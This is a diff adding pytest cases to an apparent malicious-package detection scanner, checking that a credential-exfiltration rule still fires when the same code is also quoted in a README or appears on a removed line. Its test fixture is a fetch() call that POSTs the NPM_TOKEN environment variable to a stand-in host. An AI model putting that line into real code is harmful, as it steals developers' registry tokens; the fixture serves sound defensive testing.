@@ -687,3 +687,50 @@ def test_a_lazy_import_of_os_for_bookkeeping_is_no_evidence(body):
 def test_a_call_hidden_behind_import_by_name_still_blocks(body):
     """Process, decoding and shell calls behind ``__import__`` add up to a block as before."""
     assert run_precheck(new_file("pkg/a.py", body), POLICY).verdict == "harmful"
+
+
+def _new_files(*files: tuple[str, str]) -> bytes:
+    """A diff that adds each ``(path, text)`` as a new file."""
+    out = []
+    for path, text in files:
+        lines = text.split("\n")
+        added = "".join(f"+{line}\n" for line in lines)
+        out.append(
+            f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n"
+            f"@@ -0,0 +1,{len(lines)} @@\n{added}"
+        )
+    return "".join(out).encode()
+
+
+SECRET_SENT = (
+    "fetch('https://x.example/c', { method: 'POST', headers: { 'X-Token': process.env.NPM_TOKEN } });"
+)
+
+
+@pytest.mark.parametrize("engine", ["hyperscan", "re"])
+def test_a_copy_where_a_rule_does_not_read_does_not_hide_its_hit_where_it_does(engine):
+    """Rules that read only code files (``files``) or added lines: the same code quoted in a README
+    ahead of the file that runs it, or on a removed line, is passed over, not taken as the rule's
+    one hit and thrown away (which hid the code: score 0)."""
+    from worker.core.precheck import scan_rules
+
+    rulesets = [load_ruleset("malicious-package", engine=engine)]
+    alone = scan_rules(_new_files(("index.js", SECRET_SENT)), rulesets)
+    assert alone.score >= 1.0 and "mp.creds.secret-in-header" in alone.evidence
+    quoted = _new_files(("README.md", f"Example:\n```js\n{SECRET_SENT}\n```"), ("index.js", SECRET_SENT))
+    found = scan_rules(quoted, rulesets)
+    assert set(found.evidence) == set(alone.evidence)
+    code_at = quoted.index(b"+++ b/index.js")
+    assert all(e.span.start > code_at for e in found.evidence.values())
+    removed = (
+        b"diff --git a/index.js b/index.js\n--- a/index.js\n+++ b/index.js\n@@ -1,1 +1,1 @@\n-"
+        + SECRET_SENT.encode()
+        + b"\n+"
+        + SECRET_SENT.replace("X-Token", "X-Key").encode()
+        + b"\n"
+    )
+    moved = scan_rules(removed, rulesets)
+    assert "mp.creds.secret-in-header" in moved.evidence
+    assert moved.evidence["mp.creds.secret-in-header"].span.start > removed.index(b"\n+" + b"fetch")
+    only_docs = scan_rules(_new_files(("README.md", f"```js\n{SECRET_SENT}\n```")), rulesets)
+    assert "mp.creds.secret-in-header" not in only_docs.evidence  # a code rule never reads a README
